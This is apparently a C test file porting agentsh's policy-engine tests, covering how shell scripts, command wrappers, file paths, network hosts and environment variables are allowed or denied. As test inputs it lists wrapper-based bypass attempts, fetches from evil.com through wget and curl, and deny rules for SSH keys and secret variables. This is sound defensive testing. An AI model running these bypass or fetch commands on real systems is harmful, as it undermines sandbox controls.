	SC("canyonroad/agentsh internal/policy/command_shellc_test.go:549", "ours: exec -a NAME is parsed", "/bin/sh", D_DENY, "deny-shutdown", "-c", "VAR=x exec -a foo shutdown"),
	SC("canyonroad/agentsh internal/policy/command_shellc_test.go:550", "ours: an option nohup does not have is refused as such", "/bin/sh", D_DENY, "transparent-unparsable", "-c", "PATH=/tmp nohup --preserve-status=1 shutdown"),
	SC("canyonroad/agentsh internal/policy/command_shellc_test.go:555", "ours: assignments are parsed whatever their value", "/bin/sh", D_DENY, "deny-shutdown", "-c", "PATH=/tmp:/bin shutdown"),
	SC("canyonroad/agentsh internal/policy/command_shellc_test.go:556", "ours: assignments are parsed whatever their value", "/bin/sh", D_DENY, "deny-shutdown", "-c", "PATH=*/bad nohup shutdown"),
	SC("canyonroad/agentsh internal/policy/command_shellc_test.go:557", "ours: assignments are parsed whatever their value", "/bin/sh", D_DENY, "deny-shutdown", "-c", "FOO=$VAR shutdown"),
	SC("canyonroad/agentsh internal/policy/command_shellc_test.go:558", "ours: assignments are parsed whatever their value", "/bin/sh", D_DENY, "deny-shutdown", "-c", "FOO=a=b shutdown"),
};
static const char shellc_bypass_yaml[] =
    "version: 1\nname: t\ncommand_rules:\n"
    "  - {name: deny-shutdown, commands: [shutdown], decision: deny}\n"
    "  - {name: allow-shells, commands: [sh, bash], decision: allow}\n";

static const struct xcase shellc_misc[] = {
	/* OriginalDenyWins: deny-shells, allow-ls */
	SC("canyonroad/agentsh internal/policy/command_shellc_test.go:153", NULL, "/bin/sh", D_DENY, "deny-shells", "-c", "ls"),
};
static const char shellc_misc_yaml[] =
    "version: 1\nname: t\ncommand_rules:\n"
    "  - {name: deny-shells, commands: [sh, bash], decision: deny}\n"
    "  - {name: allow-ls, commands: [ls], decision: allow}\n";

static const struct xcase shellc_noescalate[] = {
	SC("canyonroad/agentsh internal/policy/command_shellc_test.go:181", NULL, "/bin/sh", D_ALLOW, "allow-shells", "-c", "shutdown now"),
	SC("canyonroad/agentsh internal/policy/command_shellc_test.go:643", "ours: the pipe is followed; no rule names ls or wc", "/bin/sh", D_ALLOW, "allow-shells", "-c", "ls | wc"),
};
static const char shellc_noescalate_yaml[] =
    "version: 1\nname: t\ncommand_rules:\n"
    "  - {name: allow-shells, commands: [sh, bash], decision: allow}\n"
    "  - {name: allow-ls, commands: [ls], decision: allow}\n";

static const struct xcase shellc_notshell[] = {
	CC("canyonroad/agentsh internal/policy/command_shellc_test.go:207", NULL, "python3", D_ALLOW, "allow-python", "-c", "shutdown"),
	CC("canyonroad/agentsh internal/policy/command_shellc_test.go:615", NULL, "python3", D_ALLOW, "allow-python", "-c", "exec -a foo shutdown"),
};
static const char shellc_notshell_yaml[] =
    "version: 1\nname: t\ncommand_rules:\n"
    "  - {name: deny-shutdown, commands: [shutdown], decision: deny}\n"
    "  - {name: allow-python, commands: [python3], decision: allow}\n";

static const struct xcase shellc_escalate[] = {
	SC("canyonroad/agentsh internal/policy/command_shellc_test.go:225", NULL, "/bin/sh", D_APPROVE, "approve-shutdown", "-c", "shutdown now"),
	SC("canyonroad/agentsh internal/policy/command_shellc_test.go:267", NULL, "/bin/sh", D_REDIRECT, "redirect-rm", "-c", "rm foo"),
	SC("canyonroad/agentsh internal/policy/command_shellc_test.go:297", "ours: sudo is a wrapper whose payload id no rule names; sudo's audit decides", "/bin/sh", D_AUDIT, "audit-sudo", "-c", "sudo id"),
};
static const char shellc_escalate_yaml[] =
    "version: 1\nname: t\ncommand_rules:\n"
    "  - {name: approve-shutdown, commands: [shutdown], decision: approve,\n"
    "     message: needs approval}\n"
    "  - {name: redirect-rm, commands: [rm], decision: redirect,\n"
    "     redirect_to: {command: trash}}\n"
    "  - {name: audit-sudo, commands: [sudo], decision: audit}\n"
    "  - {name: allow-shells, commands: [sh, bash], decision: allow}\n";

static const struct xcase shellc_nodowngrade[] = {
	SC("canyonroad/agentsh internal/policy/command_shellc_test.go:318", NULL, "/bin/sh", D_APPROVE, "approve-shells", "-c", "ls"),
};
static const char shellc_nodowngrade_yaml[] =
    "version: 1\nname: t\ncommand_rules:\n"
    "  - {name: approve-shells, commands: [sh, bash], decision: approve}\n"
    "  - {name: allow-ls, commands: [ls], decision: allow}\n";

static const struct xcase shellc_strictness[] = {
	SC("canyonroad/agentsh internal/policy/command_shellc_test.go:354", NULL, "/bin/sh", D_DENY, "deny-shutdown", "-c", "bash -c shutdown"),
};
static const char shellc_strictness_yaml[] =
    "version: 1\nname: t\ncommand_rules:\n"
    "  - {name: deny-shutdown, commands: [shutdown], decision: deny}\n"
    "  - {name: audit-bash, commands: [bash], decision: audit}\n"
    "  - {name: allow-sh, commands: [sh], decision: allow}\n";

static const struct xcase shellc_outerdeny[] = {
	SC("canyonroad/agentsh internal/policy/command_shellc_test.go:590", NULL, "/bin/sh", D_DENY, "deny-shells", "-c", "exec -a foo shutdown"),
};
static const char shellc_outerdeny_yaml[] =
    "version: 1\nname: t\ncommand_rules:\n"
    "  - {name: deny-shells, commands: [sh], decision: deny}\n";

static const struct xcase shellc_shim[] = {
	SC("canyonroad/agentsh internal/policy/command_shellc_test.go:789", NULL, "/bin/sh.real", D_DENY, "deny-shutdown", "-c", "shutdown now"),
	SC("canyonroad/agentsh internal/policy/command_shellc_test.go:790", NULL, "/bin/bash.real", D_DENY, "deny-shutdown", "-c", "shutdown"),
	SC("canyonroad/agentsh internal/policy/command_shellc_test.go:791", NULL, "/usr/bin/sh.real", D_DENY, "deny-shutdown", "-c", "shutdown"),
	SC("canyonroad/agentsh internal/policy/command_shellc_test.go:793", NULL, "/bin/sh.real", D_DENY, "deny-shutdown", "-c", "nohup shutdown"),
	SC("canyonroad/agentsh internal/policy/command_shellc_test.go:794", FOLLOWS, "/bin/sh.real", D_DENY, "deny-shutdown", "-c", "shutdown; true"),
	SC("canyonroad/agentsh internal/policy/command_shellc_test.go:795", NULL, "/bin/sh.real", D_DENY, "deny-shutdown", "-l", "-c", "shutdown"),
	SC("canyonroad/agentsh internal/policy/command_shellc_test.go:796", "ours: -p is followed", "/bin/sh.real", D_DENY, "deny-shutdown", "-pc", "shutdown"),
	SC("canyonroad/agentsh internal/policy/command_shellc_test.go:798", NULL, "/bin/sh.real", D_ALLOW, "allow-shim-shells", "-c", "ls"),
	{ "canyonroad/agentsh internal/policy/command_shellc_test.go:800", NULL, NULL, { "/bin/sh.real", NULL }, 0, 0, POL_OPAQUE_ENFORCE, D_ALLOW, "allow-shim-shells", NULL },
};
static const char shellc_shim_yaml[] =
    "version: 1\nname: t\ncommand_rules:\n"
    "  - {name: deny-shutdown, commands: [shutdown], decision: deny}\n"
    "  - {name: allow-shim-shells, commands: [sh, bash, sh.real, bash.real],\n"
    "     decision: allow}\n";

/* command_shellc_opaque_mode_test.go, command_shellc_interception_test.go,
 * command_v_introspection_test.go */
#define OM(src, ours, mode, icept, want, rule, script)			\
	{ src, ours, NULL, { "/bin/sh", "-c", script, NULL }, 0, icept,	\
	    mode, want, rule, NULL }
#define OPQ "echo $HOME | head `true`"

static const struct xcase opaque_modes[] = {
	OM("canyonroad/agentsh internal/policy/command_shellc_opaque_mode_test.go:38", "ours: the script is opaque for its backquotes, as the original's was for its pipe", POL_OPAQUE_ENFORCE, 1, D_ALLOW, "allow-shells", OPQ),
	OM("canyonroad/agentsh internal/policy/command_shellc_opaque_mode_test.go:39", NULL, POL_OPAQUE_ENFORCE, 0, D_DENY, "shellc-opaque-script", OPQ),
	OM("canyonroad/agentsh internal/policy/command_shellc_opaque_mode_test.go:40", NULL, POL_OPAQUE_ALLOW, 1, D_ALLOW, "allow-shells", OPQ),
	OM("canyonroad/agentsh internal/policy/command_shellc_opaque_mode_test.go:41", NULL, POL_OPAQUE_ALLOW, 0, D_ALLOW, "allow-shells", OPQ),
	OM("canyonroad/agentsh internal/policy/command_shellc_opaque_mode_test.go:42", NULL, POL_OPAQUE_DENY, 1, D_DENY, "shellc-opaque-script", OPQ),
	OM("canyonroad/agentsh internal/policy/command_shellc_opaque_mode_test.go:43", NULL, POL_OPAQUE_DENY, 0, D_DENY, "shellc-opaque-script", OPQ),
	OM("canyonroad/agentsh internal/policy/command_shellc_interception_test.go:33", NULL, POL_OPAQUE_ENFORCE, 1, D_ALLOW, "allow-shells", "echo $HOME"),
	OM("canyonroad/agentsh internal/policy/command_shellc_interception_test.go:34", NULL, POL_OPAQUE_ENFORCE, 1, D_ALLOW, "allow-shells", "ls /tmp | head"),
	OM("canyonroad/agentsh internal/policy/command_shellc_interception_test.go:35", NULL, POL_OPAQUE_ENFORCE, 1, D_ALLOW, "allow-shells", "echo x > /tmp/a"),
	OM("canyonroad/agentsh internal/policy/command_shellc_interception_test.go:36", NULL, POL_OPAQUE_ENFORCE, 1, D_ALLOW, "allow-shells", "true && true"),
	OM("canyonroad/agentsh internal/policy/command_shellc_interception_test.go:37", NULL, POL_OPAQUE_ENFORCE, 1, D_ALLOW, "allow-shells", "echo $(date)"),
	OM("canyonroad/agentsh internal/policy/command_shellc_interception_test.go:38", NULL, POL_OPAQUE_ENFORCE, 1, D_ALLOW, "allow-shells", "for i in 1 2; do echo $i; done"),
	OM("canyonroad/agentsh internal/policy/command_shellc_interception_test.go:39", NULL, POL_OPAQUE_ENFORCE, 1, D_ALLOW, "allow-shells", "curl https://example.com"),
	OM("canyonroad/agentsh internal/policy/command_shellc_interception_test.go:56", "ours: $HOME in echo's arguments and a pipe are followed", POL_OPAQUE_ENFORCE, 0, D_ALLOW, "allow-shells", "echo $HOME | head"),
	OM("canyonroad/agentsh internal/policy/command_shellc_interception_test.go:74", NULL, POL_OPAQUE_ENFORCE, 1, D_DENY, "deny-shutdown", "shutdown now"),
	OM("canyonroad/agentsh internal/policy/command_v_introspection_test.go:24", NULL, POL_OPAQUE_ENFORCE, 0, D_ALLOW, "allow-shells", "command -v ls"),
	OM("canyonroad/agentsh internal/policy/command_v_introspection_test.go:32", NULL, POL_OPAQUE_ENFORCE, 0, D_ALLOW, "allow-shells", "FOO=1 command -v ls"),
	OM("canyonroad/agentsh internal/policy/command_v_introspection_test.go:39", NULL, POL_OPAQUE_ENFORCE, 0, D_ALLOW, "allow-shells", "command -v shutdown"),
	OM("canyonroad/agentsh internal/policy/command_v_introspection_test.go:45", NULL, POL_OPAQUE_ENFORCE, 0, D_ALLOW, "allow-shells", "command -V ls"),
	OM("canyonroad/agentsh internal/policy/command_v_introspection_test.go:50", NULL, POL_OPAQUE_ENFORCE, 0, D_DENY, "deny-shutdown", "command shutdown"),
};
static const char opaque_modes_yaml[] =
    "version: 1\nname: t\ncommand_rules:\n"
    "  - {name: deny-shutdown, commands: [shutdown], decision: deny}\n"
    "  - {name: allow-shells, commands: [sh, bash, dash, zsh], decision: allow}\n";

static const struct xcase opaque_allowonly[] = {
	OM("canyonroad/agentsh internal/policy/command_shellc_opaque_mode_test.go:71", NULL, POL_OPAQUE_ENFORCE, 0, D_ALLOW, "allow-shells", OPQ),
	OM("canyonroad/agentsh internal/policy/command_shellc_opaque_mode_test.go:71", NULL, POL_OPAQUE_DENY, 0, D_ALLOW, "allow-shells", OPQ),
};
static const char opaque_allowonly_yaml[] =
    "version: 1\nname: t\ncommand_rules:\n"
    "  - {name: allow-shells, commands: [sh, bash], decision: allow}\n";

/* ------------------------------------------------------------------ */
/* netmonitor/transparent_test.go, transparent_linux_test.go */

static const struct xcase unwrap[] = {
	UW("canyonroad/agentsh internal/netmonitor/transparent_test.go:10", NULL, "/usr/bin/git", "", D_ALLOW, "allow-git", "git", "status"),
	UW("canyonroad/agentsh internal/netmonitor/transparent_test.go:17", NULL, "/usr/bin/env", "wget", D_DENY, "block-wget", "env", "wget", "http://evil.com"),
	UW("canyonroad/agentsh internal/netmonitor/transparent_test.go:24", NULL, "/usr/bin/env", "wget", D_DENY, "block-wget", "env", "-i", "FOO=bar", "wget", "http://evil.com"),
	UW("canyonroad/agentsh internal/netmonitor/transparent_test.go:31", "ours: nice -n takes 10; the payload is wget", "/usr/bin/nice", "wget", D_DENY, "block-wget", "nice", "-n", "10", "wget", "http://evil.com"),
	UW("canyonroad/agentsh internal/netmonitor/transparent_test.go:42", NULL, "/usr/bin/nohup", "wget", D_DENY, "block-wget", "nohup", "wget", "http://evil.com"),
	UW("canyonroad/agentsh internal/netmonitor/transparent_test.go:49", "ours: nice -n takes 5; env then wget", "/usr/bin/sudo", "wget", D_DENY, "block-wget", "sudo", "nice", "-n", "5", "env", "wget", "http://evil.com"),
	UW("canyonroad/agentsh internal/netmonitor/transparent_test.go:58", NULL, "/usr/bin/env", "", D_ALLOW, "allow-wrappers", "env", "-i", "FOO=bar"),
	UW("canyonroad/agentsh internal/netmonitor/transparent_test.go:65", "ours: a sixth wrapper is denied outright", "/usr/bin/env", "env", D_DENY, "transparent-depth-exceeded", "env", "env", "env", "env", "env", "env", "wget"),
	UW("canyonroad/agentsh internal/netmonitor/transparent_test.go:92", NULL, "/usr/bin/env", "wget", D_DENY, "block-wget", "env", "-i", "wget", "http://evil.com"),
	UW("canyonroad/agentsh internal/netmonitor/transparent_test.go:101", NULL, "/usr/bin/sudo", "wget", D_DENY, "block-wget", "sudo", "--user=root", "wget", "http://evil.com"),
	UW("canyonroad/agentsh internal/netmonitor/transparent_test.go:109", NULL, "/usr/bin/env", "wget", D_DENY, "block-wget", "env", "-i", "--", "wget", "http://evil.com"),
	UW("canyonroad/agentsh internal/netmonitor/transparent_linux_test.go:11", "ours: running the loader as a program is denied outright", "/lib64/ld-linux-x86-64.so.2", "", D_DENY, "loader-exec", "ld-linux-x86-64.so.2", "/usr/bin/wget", "http://evil.com"),
	UW("canyonroad/agentsh internal/netmonitor/transparent_linux_test.go:24", "ours: running the loader as a program is denied outright", "/lib/ld-linux-aarch64.so.1", "", D_DENY, "loader-exec", "ld-linux-aarch64.so.1", "/usr/bin/curl", "http://evil.com"),
	UW("canyonroad/agentsh internal/netmonitor/transparent_linux_test.go:34", NULL, "/bin/busybox", "wget", D_DENY, "block-wget", "busybox", "wget", "http://evil.com"),
	UW("canyonroad/agentsh internal/netmonitor/transparent_linux_test.go:45", "ours: doas -u takes root; the payload is wget", "/usr/bin/doas", "wget", D_DENY, "block-wget", "doas", "-u", "root", "wget", "http://evil.com"),
	UW("canyonroad/agentsh internal/netmonitor/transparent_linux_test.go:78", "ours: the loader run as a program is denied outright", "/usr/bin/sudo", "/lib64/ld-linux-x86-64.so.2", D_DENY, "loader-exec", "sudo", "/lib64/ld-linux-x86-64.so.2", "/usr/bin/wget", "http://evil.com"),
};
static const char unwrap_yaml[] =
    "version: 1\nname: t\ncommand_rules:\n"
    "  - {name: block-wget, commands: [wget, curl], decision: deny}\n"
    "  - {name: allow-git, commands: [git], decision: allow}\n"
    "  - {name: allow-wrappers, commands: [env, nice, nohup, sudo, doas,\n"
    "     busybox, \"ld-linux*\"], decision: allow}\n";

static const struct xcase unwrap_override[] = {
	UW("canyonroad/agentsh internal/netmonitor/transparent_test.go:72", NULL, "/usr/bin/myrunner", "wget", D_DENY, "block-wget", "myrunner", "wget", "http://evil.com"),
	UW("canyonroad/agentsh internal/netmonitor/transparent_test.go:82", NULL, "/usr/bin/sudo", "", D_ALLOW, "allow-wrappers", "sudo", "wget"),
};
static const char unwrap_override_yaml[] =
    "version: 1\nname: t\ncommand_rules:\n"
    "  - {name: block-wget, commands: [wget], decision: deny}\n"
    "  - {name: allow-wrappers, commands: [myrunner, sudo], decision: allow}\n"
    "transparent_commands: {add: [myrunner], remove: [sudo]}\n";

/* ------------------------------------------------------------------ */
/* rules_test.go: contexts */

#define CTX(src, depth, want, rule) \
	CE(src, NULL, "/usr/bin/git", depth, want, rule, "git")
static const struct xcase contexts[] = {
	CTX("canyonroad/agentsh internal/policy/rules_test.go:108", 0, D_ALLOW, "direct"),
	CTX("canyonroad/agentsh internal/policy/rules_test.go:114", 1, D_AUDIT, "nested"),
	CTX("canyonroad/agentsh internal/policy/rules_test.go:120", 1, D_AUDIT, "nested"),
	CTX("canyonroad/agentsh internal/policy/rules_test.go:126", 5, D_AUDIT, "nested"),
	CTX("canyonroad/agentsh internal/policy/rules_test.go:138", 2, D_AUDIT, "nested"),
};
static const char contexts_yaml[] =
    "version: 1\nname: t\ncommand_rules:\n"
    "  - {name: direct, commands: [git], decision: allow, context: [direct]}\n"
    "  - {name: nested, commands: [git], decision: audit, context: [nested]}\n";

static const struct xcase ranges[] = {
	CTX("canyonroad/agentsh internal/policy/rules_test.go:144", 4, D_DENY, "default-deny-commands"),
	CTX("canyonroad/agentsh internal/policy/rules_test.go:138", 3, D_ALLOW, "range"),
	CTX("canyonroad/agentsh internal/policy/rules_test.go:132", 0, D_DENY, "default-deny-commands"),
};
static const char ranges_yaml[] =
    "version: 1\nname: t\ncommand_rules:\n"
    "  - {name: range, commands: [git], decision: allow,\n"
    "     context: {min_depth: 1, max_depth: 3}}\n";

static const struct xcase alldepths[] = {
	CTX("canyonroad/agentsh internal/policy/rules_test.go:150", 0, D_ALLOW, "any"),
	CTX("canyonroad/agentsh internal/policy/rules_test.go:156", 100, D_ALLOW, "any"),
};
static const char alldepths_yaml[] =
    "version: 1\nname: t\ncommand_rules:\n"
    "  - {name: any, commands: [git], decision: allow, context: [nested, direct]}\n";

static const struct xgroup groups[] = {
	GROUP(execve_basic_yaml, execve_basic),
	GROUP(execve_direct_yaml, execve_direct),
	GROUP(execve_nested_yaml, execve_nested),
	GROUP(execve_args_yaml, execve_args),
	GROUP(execve_fullpath_yaml, execve_fullpath),
	GROUP(execve_pathglob_yaml, execve_pathglob),
	GROUP(execve_baseglob_yaml, execve_baseglob),
	GROUP(execve_postunwrap_yaml, execve_postunwrap),
	GROUP(cmd_basename_yaml, cmd_basename),
	GROUP(cmd_fullpath_yaml, cmd_fullpath),
	GROUP(cmd_pathglob_yaml, cmd_pathglob),
	GROUP(cmd_mixed_yaml, cmd_mixed),
	GROUP(cmd_bypass_yaml, cmd_bypass),
	GROUP(cmd_case_yaml, cmd_case),
	GROUP(cmd_args_yaml, cmd_args),
	GROUP(cmd_default_yaml, cmd_default),
	GROUP(cmd_empty_yaml, cmd_empty),
	GROUP(cmd_git_yaml, cmd_git),
	GROUP(shellc_yaml, shellc),
	GROUP(shellc_bypass_yaml, shellc_bypass),
	GROUP(shellc_misc_yaml, shellc_misc),
	GROUP(shellc_noescalate_yaml, shellc_noescalate),
	GROUP(shellc_notshell_yaml, shellc_notshell),
	GROUP(shellc_escalate_yaml, shellc_escalate),
	GROUP(shellc_nodowngrade_yaml, shellc_nodowngrade),
	GROUP(shellc_strictness_yaml, shellc_strictness),
	GROUP(shellc_outerdeny_yaml, shellc_outerdeny),
	GROUP(shellc_shim_yaml, shellc_shim),
	GROUP(opaque_modes_yaml, opaque_modes),
	GROUP(opaque_allowonly_yaml, opaque_allowonly),
	GROUP(unwrap_yaml, unwrap),
	GROUP(unwrap_override_yaml, unwrap_override),
	GROUP(contexts_yaml, contexts),
	GROUP(ranges_yaml, ranges),
	GROUP(alldepths_yaml, alldepths),
};

static void
ported_exec(void)
{
	for (size_t i = 0; i < nitems(groups); i++)
		run_xgroup(&groups[i]);
}

/* ------------------------------------------------------------------ */
/* Files and networks: engine_vars_test.go, vars_test.go */

struct fcase {
	const char	*src;
	const char	*ours;
	const char	*path;
	const char	*op;
	enum pol_decision want;
	const char	*rule;
};

static const struct fcase vars_files[] = {
	{ "canyonroad/agentsh internal/policy/engine_vars_test.go:39", NULL, "/home/user/myproject/src/main.go", "read", D_ALLOW, "allow-project" },
	{ "canyonroad/agentsh internal/policy/engine_vars_test.go:43", NULL, "/home/user/.config/app/settings.json", "read", D_ALLOW, "allow-home" },
	{ "canyonroad/agentsh internal/policy/engine_vars_test.go:47", NULL, "/etc/passwd", "read", D_ALLOW, "default-allow-reads" },
	{ "canyonroad/agentsh internal/policy/engine_vars_test.go:51", NULL, "/etc/passwd", "write", D_DENY, "default-deny-files" },
};
static const char vars_files_yaml[] =
    "version: 1\nname: t\nfile_rules:\n"
    "  - {name: allow-project, paths: [\"${PROJECT_ROOT}/**\"],\n"
    "     operations: [read], decision: allow}\n"
    "  - {name: allow-home, paths: [\"${HOME}/.config/**\"],\n"
    "     operations: [read], decision: allow}\n";

static const struct fcase home_is_root[] = {
	{ "canyonroad/agentsh internal/policy/engine_vars_test.go:130", NULL, "/home/user/.bashrc", "write", D_DENY, "deny-shell-rc" },
	{ "canyonroad/agentsh internal/policy/engine_vars_test.go:131", NULL, "/home/user/.bashrc", "rename", D_DENY, "deny-shell-rc" },
	{ "canyonroad/agentsh internal/policy/engine_vars_test.go:132", NULL, "/home/user/.profile", "create", D_DENY, "deny-shell-rc" },
	{ "canyonroad/agentsh internal/policy/engine_vars_test.go:133", NULL, "/home/user/.ssh/id_rsa", "read", D_DENY, "deny-ssh-keys" },
	{ "canyonroad/agentsh internal/policy/engine_vars_test.go:134", NULL, "/home/user/.gitconfig", "write", D_DENY, "deny-git-credentials" },
	{ "canyonroad/agentsh internal/policy/engine_vars_test.go:135", NULL, "/home/user/project/main.go", "write", D_ALLOW, "allow-workspace-write" },
	{ "canyonroad/agentsh internal/policy/engine_vars_test.go:136", NULL, "/home/user/project/main.go", "create", D_ALLOW, "allow-workspace-write" },
};
static const char home_is_root_yaml[] =
    "version: 1\nname: t\nfile_rules:\n"
    "  - {name: deny-shell-rc, paths: [\"${HOME}/.bashrc\", \"${HOME}/.profile\"],\n"
    "     operations: [write, create, rename], decision: deny}\n"
    "  - {name: deny-ssh-keys, paths: [\"${HOME}/.ssh/**\"],\n"
    "     operations: [\"*\"], decision: deny}\n"
    "  - {name: deny-git-credentials, paths: [\"${HOME}/.gitconfig\"],\n"
    "     operations: [\"*\"], decision: deny}\n"
    "  - {name: allow-workspace-write, paths: [\"${PROJECT_ROOT}/**\"],\n"
    "     operations: [write, create, rename], decision: allow}\n";

static void
run_fcases(const char *yaml, const char *const *vars, const struct fcase *c,
    size_t n)
{
	struct pol_vars	*v = pol_vars_new();
	struct pol	*p;
	struct pol_result res;
	enum pol_fileop	 op;
	char		 err[512];

	for (size_t i = 0; vars[i] != NULL; i += 2)
		ck_assert_int_eq(pol_vars_set(v, vars[i], vars[i + 1]), 0);
	p = pol_load_buf(yaml, strlen(yaml), "t.yaml", v, 0, err, sizeof(err));
	ck_assert_msg(p != NULL, "%s", err);
	for (size_t i = 0; i < n; i++) {
		ck_assert_int_eq(pol_fileop_parse(c[i].op, &op), 0);
		pol_eval_file(p, c[i].path, op, &res);
		ck_assert_msg(res.decision == c[i].want &&
		    strcmp(res.rule, c[i].rule) == 0,
		    "%s: %s %s: got %s/%s, want %s/%s", c[i].src, c[i].op,
		    c[i].path, pol_decision_name(res.decision), res.rule,
		    pol_decision_name(c[i].want), c[i].rule);
		nported++;
	}
	pol_free(p);
	pol_vars_free(v);
}

static void
ported_vars(void)
{
	static const char *const v1[] = { "PROJECT_ROOT", "/home/user/myproject",
	    "HOME", "/home/user", NULL };
	static const char *const v2[] = { "PROJECT_ROOT", "/home/user",
	    "HOME", "/home/user", NULL };
	static const char *const v3[] = { "COMPANY_DOMAIN", "example.com",
	    "INTERNAL_HOST", "internal.corp.net", NULL };
	static const char undef[] = "version: 1\nname: t\nfile_rules:\n"
	    "  - {name: allow-project, paths: [\"${UNDEFINED}/**\"],\n"
	    "     operations: [read], decision: allow}\n";
	static const char net[] = "version: 1\nname: t\nnetwork_rules:\n"
	    "  - {name: allow-company-domain, domains: [\"*.${COMPANY_DOMAIN}\",\n"
	    "     \"${INTERNAL_HOST}\"], ports: [443], decision: allow}\n";
	struct pol_vars	*v;
	struct pol	*p;
	struct pol_result res;
	struct pol_connect_req c = { NULL, NULL, 443 };
	char		 err[512], *x;

	run_fcases(vars_files_yaml, v1, vars_files, nitems(vars_files));
	run_fcases(home_is_root_yaml, v2, home_is_root, nitems(home_is_root));

	/* canyonroad/agentsh internal/policy/engine_vars_test.go:55 */
	v = pol_vars_new();
	ck_assert_ptr_null(pol_load_buf(undef, strlen(undef), "t.yaml", v, 0,
	    err, sizeof(err)));
	ck_assert_ptr_nonnull(strstr(err, "undefined variable"));
	nported++;

	/* canyonroad/agentsh internal/policy/engine_vars_test.go:151 */
	for (size_t i = 0; v3[i] != NULL; i += 2)
		pol_vars_set(v, v3[i], v3[i + 1]);
	p = pol_load_buf(net, strlen(net), "t.yaml", v, 0, err, sizeof(err));
	ck_assert_msg(p != NULL, "%s", err);
	c.host = "api.example.com";
	pol_eval_connect(p, &c, &res);
	ck_assert_str_eq(res.rule, "allow-company-domain");
	c.host = "internal.corp.net";
	pol_eval_connect(p, &c, &res);
	ck_assert_str_eq(res.rule, "allow-company-domain");
	c.host = "other.net";
	pol_eval_connect(p, &c, &res);
	ck_assert_int_eq(res.decision, POL_DENY);
	nported += 3;
	pol_free(p);
	pol_vars_free(v);

	/* vars_test.go: ExpandVariables */
	v = pol_vars_new();
	pol_vars_set(v, "PROJECT_ROOT", "/home/user/myproject");
	pol_vars_set(v, "HOME", "/home/user");
	{
		static const struct {
			const char	*src, *ours, *in, *want;
		} ev[] = {
			{ "canyonroad/agentsh internal/policy/vars_test.go:24", NULL, "${PROJECT_ROOT}/src", "/home/user/myproject/src" },
			{ "canyonroad/agentsh internal/policy/vars_test.go:29", NULL, "${HOME}/.config/${PROJECT_ROOT}", "/home/user/.config//home/user/myproject" },
			{ "canyonroad/agentsh internal/policy/vars_test.go:34", NULL, "/tmp/foo/bar", "/tmp/foo/bar" },
			{ "canyonroad/agentsh internal/policy/vars_test.go:39", NULL, "/prefix/${PROJECT_ROOT}", "/prefix//home/user/myproject" },
			{ "canyonroad/agentsh internal/policy/vars_test.go:70", NULL, "${PROJECT_ROOT:-/fallback}", "/home/user/myproject" },
			{ "canyonroad/agentsh internal/policy/vars_test.go:75", NULL, "${UNDEFINED:-/fallback}", "/fallback" },
			{ "canyonroad/agentsh internal/policy/vars_test.go:80", NULL, "${UNDEFINED:-}", "" },
			{ "canyonroad/agentsh internal/policy/vars_test.go:85", "ours: a fallback may itself use variables", "${GIT_ROOT:-${PROJECT_ROOT}}/config", "/home/user/myproject/config" },
		};

		for (size_t i = 0; i < nitems(ev); i++) {
			x = pol_vars_expand(v, ev[i].in, 0, err, sizeof(err));
			ck_assert_msg(x != NULL, "%s: %s", ev[i].src, err);
			ck_assert_msg(strcmp(x, ev[i].want) == 0, "%s: got %s",
			    ev[i].src, x);
			free(x);
			nported++;
		}
	}
	/* canyonroad/agentsh internal/policy/vars_test.go:90 */
	ck_assert_ptr_null(pol_vars_expand(v, "${UNDEFINED}", 0, err,
	    sizeof(err)));
	ck_assert_ptr_nonnull(strstr(err, "undefined variable"));
	nported++;
	pol_vars_free(v);
}

/* ------------------------------------------------------------------ */
/* rules_test.go: parsing of context */

static void
ported_context_parse(void)
{
	static const char bad[] = "version: 1\nname: t\ncommand_rules:\n"
	    "  - name: test\n    commands: [git]\n    decision: allow\n"
	    "    context: [unknown]\n";
	char	 err[512];

	/* canyonroad/agentsh internal/policy/rules_test.go:185 */
	ck_assert_ptr_null(tload_err(bad, err, sizeof(err)));
	ck_assert_ptr_nonnull(strstr(err, "unknown context value 'unknown'"));
	ck_assert_ptr_nonnull(strstr(err, "t.yaml:7:15: "
	    "command_rules[0].context[0]"));
	nported++;
}

/* ------------------------------------------------------------------ */
/* env_test.go */

struct ecase {
	const char	*src;
	const char	*ours;
	const char	*env[12];	/* the request */
	const char	*present[10];
	const char	*absent[10];
	const char	*error;		/* substring, or NULL */
};

static void
run_ecases(const char *yaml, const struct ecase *c, size_t n)
{
	struct pol	*p = tload(yaml);
	struct pol_env_req req;
	struct pol_env	 env;
	char		 err[512];

	for (size_t i = 0; i < n; i++) {
		memset(&req, 0, sizeof(req));
		req.request = c[i].env;
		if (c[i].error != NULL) {
			ck_assert_msg(pol_env_build(p, &req, &env, err,
			    sizeof(err)) == -1, "%s: no error", c[i].src);
			ck_assert_msg(strstr(err, c[i].error) != NULL,
			    "%s: %s", c[i].src, err);
			nported++;
			continue;
		}
		ck_assert_msg(pol_env_build(p, &req, &env, err,
		    sizeof(err)) == 0, "%s: %s", c[i].src, err);
		for (size_t j = 0; c[i].present[j] != NULL; j++)
			ck_assert_msg(tenv_has(&env, c[i].present[j]),
			    "%s: %s missing", c[i].src, c[i].present[j]);
		for (size_t j = 0; c[i].absent[j] != NULL; j++)
			ck_assert_msg(!tenv_has(&env, c[i].absent[j]),
			    "%s: %s present", c[i].src, c[i].absent[j]);
		pol_env_clear(&env);
		nported++;
	}
	pol_free(p);
}

/* A name alone: is it let through (V=1)? */
#define EN(src, name, ok) { src, NULL, { name "=1", NULL },		\
	{ ok ? name "=1" : NULL, NULL }, { ok ? NULL : name "=1", NULL }, NULL }

static const struct ecase env_deny[] = {
	EN("canyonroad/agentsh internal/policy/env_test.go:25", "AWS_ACCESS_KEY_ID", 0),
	EN("canyonroad/agentsh internal/policy/env_test.go:26", "AWS_SECRET_ACCESS_KEY", 0),
	EN("canyonroad/agentsh internal/policy/env_test.go:27", "MY_SECRET", 0),
	EN("canyonroad/agentsh internal/policy/env_test.go:28", "PASSWORD", 0),
	EN("canyonroad/agentsh internal/policy/env_test.go:29", "USER", 1),
};
static const char env_deny_yaml[] = "version: 1\nname: t\nenv_policy:\n"
    "  deny: [\"AWS_*\", \"*_SECRET\", PASSWORD]\n";

static const struct ecase env_allow[] = {
	EN("canyonroad/agentsh internal/policy/env_test.go:66", "PATH", 1),
	EN("canyonroad/agentsh internal/policy/env_test.go:68", "USER", 1),
	EN("canyonroad/agentsh internal/policy/env_test.go:69", "MY_VAR", 1),
	EN("canyonroad/agentsh internal/policy/env_test.go:70", "MY_APP_DATA", 1),
